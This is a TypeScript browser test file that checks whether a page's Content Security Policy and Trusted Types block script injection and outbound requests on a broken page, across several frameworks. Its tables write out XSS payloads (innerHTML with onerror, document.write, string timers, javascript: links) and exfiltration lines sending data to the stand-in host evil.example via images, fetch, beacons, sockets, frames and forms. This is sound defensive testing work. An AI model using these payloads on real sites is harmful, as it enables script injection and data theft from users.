/** What the policy leaves of an attack if the page were broken; and that the tests would see it (ATTACKS 49, 50). */
import { describe, expect, onTestFinished, test } from 'vitest'
import { seed, useBrowser } from '../support/browser-test.js'
import { hasBrowser } from '../support/chromium.js'
import { frameworks, type Framework } from '../support/host.js'
import { Visitor } from '../support/visitor.js'
import { strangers } from './support/hostile.js'
import { Scrutiny } from './support/scrutiny.js'

const browser = useBrowser()

/** Somebody in whose browser the page is broken, and may complain. */
async function victim(framework: Framework): Promise<{ visitor: Visitor; scrutiny: Scrutiny }> {
  const host = await browser.host({ framework })
  await seed(host)
  if (browser.browser === undefined) throw new Error('There is no browser')
  const visitor = await Visitor.arrive(browser.browser, host)
  onTestFinished(() => visitor.leave())
  const scrutiny = await Scrutiny.of(visitor)
  await visitor.open()
  return { visitor, scrutiny }
}

/** What a script of the page would do that were broken; each is tried, and may throw. */
const sinks: Readonly<Record<string, string>> = {
  'HTML from text': `document.body.innerHTML = '<img src=x onerror=owned(1)>'`,
  'HTML beside an element': `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
  'a document from text': `document.write('<script>owned(2)</' + 'script>')`,
  'a script of text': `{
    const script = document.createElement('script')
    script.text = 'owned(3)'
    document.body.append(script)
  }`,
  'a script from elsewhere': `{
    const script = document.createElement('script')
    script.setAttribute('src', 'https://evil.example/x.js')
    document.body.append(script)
  }`,
  'a handler of text': `document.body.setAttribute('onclick', 'owned(4)'), document.body.click()`,
  'code of text': `setTimeout('owned(5)', 0)`,
  'a policy of its own': `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`,
}

/** What it would send, load or show; refused without Trusted Types. */
const ways: Readonly<Record<string, readonly [string, string]>> = {
  'an image': [`new Image().src = 'https://evil.example/?v'`, 'img-src'],
  'an image of text': [`new Image().src = 'data:image/svg+xml,<svg/>'`, 'img-src'],
  'a request': [`void fetch('https://evil.example/?v').catch(() => {})`, 'connect-src'],
  'a beacon': [`navigator.sendBeacon('https://evil.example/?v', 'v')`, 'connect-src'],
  'a socket': [`new WebSocket('wss://evil.example')`, 'connect-src'],
  'a frame': [element('iframe', 'src', 'https://evil.example/'), 'frame-src'],
  'a style sheet': [
    `${element('link', 'rel', 'stylesheet')}, element.setAttribute('href', 'https://evil.example/x.css')`,
    'style-src-elem',
  ],
  'a style of text': [
    `${element('style', 'id', 'x')}, element.textContent = 'a{}'`,
    'style-src-elem',
  ],
  'a base': [element('base', 'href', 'https://evil.example/'), 'base-uri'],
  'a form': [
    `${element('form', 'action', 'https://evil.example/')}, element.submit()`,
    'form-action',
  ],
}

function element(tag: string, name: string, value: string): string {
  return `window.element = document.body.appendChild(document.createElement('${tag}')), element.setAttribute('${name}', '${value}')`
}

/** Has the page do it: to the browser's tools the policy applies in what they change. */
function attempt({ page }: Visitor, code: string): Promise<unknown> {
  return page.evaluate(`(() => { try { ${code} } catch {} })()`)
}

describe.skipIf(!hasBrowser()).each(frameworks)('49 a page that is broken, on %s', (framework) => {
  test('runs no text, and every attempt is counted', async () => {
    const { visitor, scrutiny } = await victim(framework)
    for (const [what, code] of Object.entries(sinks)) {
      const before = scrutiny.violations.length
      await attempt(visitor, code)
      await expect
        .poll(() => scrutiny.violations.length, { message: what, timeout: 20_000 })
        .toBeGreaterThan(before)
    }
    expect(scrutiny.ran).toEqual([])
    expect(visitor.complaints.length).toBeGreaterThan(0)
  })

  test('loads and sends nothing, and every attempt is counted', async () => {
    const { visitor, scrutiny } = await victim(framework)
    for (const [what, [code, directive]] of Object.entries(ways)) {
      await attempt(visitor, code)
      await expect
        .poll(() => scrutiny.violations.join(), { message: what, timeout: 20_000 })
        .toContain(`${directive} `)
      scrutiny.violations.length = 0
    }
    expect(new URL(visitor.page.url()).origin).toBe(visitor.host.origin)
  })

  test('would be seen to hold what a text became', async () => {
    const { visitor } = await victim(framework)
    expect(await visitor.page.evaluate(strangers)).toEqual([])
    for (const tag of ['iframe', 'base', 'style', 'object'])
      await attempt(visitor, element(tag, 'id', 'x'))
    await attempt(visitor, element('a', 'href', 'javascript:owned(1)'))
    await attempt(visitor, element('a', 'href', '//evil.example'))
    await attempt(visitor, element('img', 'src', 'data:image/png,'))
    expect(await visitor.page.evaluate(strangers)).toHaveLength(7)
  })
})
